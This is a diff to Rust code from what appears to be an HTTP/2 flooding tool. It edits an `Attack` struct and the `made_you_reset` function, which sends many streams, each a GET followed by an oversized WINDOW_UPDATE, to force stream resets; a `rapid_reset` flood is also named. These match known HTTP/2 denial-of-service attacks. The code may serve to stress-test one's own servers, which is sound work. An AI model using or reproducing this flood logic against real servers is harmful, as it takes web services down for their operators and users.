@@ -100,8 +100,8 @@ pub struct Attacking {
 }
 
 impl Attack {
-    /// How often it has to be tried, however long that takes; 0 where nobody asks for a number.
-    pub fn tries(&self, length: Length) -> u64 {
+    /// How often it has to come, however long that takes; 0 where nobody asks for a number.
+    pub fn times(&self, length: Length) -> u64 {
         if self.rows == KEYS { length.keys } else { 0 }
     }
 
@@ -381,12 +381,14 @@ async fn rapid_reset(field: Arc<Field>) -> Option<()> {
     .await
 }
 
-/// A window update of nothing makes the other side reset the stream.
+/// A stream's window beyond its bound makes the other side reset the stream. (One of nothing ends the connection.)
 async fn made_you_reset(field: Arc<Field>) -> Option<()> {
     static TURNS: Turns = Turns::new();
     flood(&field, &[], &TURNS, |turn| {
         let streams = (0..50).map(|n| (turn * 50 + n) * 2 + 1);
-        let pair = |stream| [get(&field, stream, "/", false), frame(WINDOW_UPDATE, 0, stream, &[0; 4])].concat();
+        let pair = |stream| {
+            [get(&field, stream, "/", false), frame(WINDOW_UPDATE, 0, stream, &[0x7f, 0xff, 0xff, 0xff])].concat()
+        };
         streams.flat_map(pair).collect()
     })
     .await
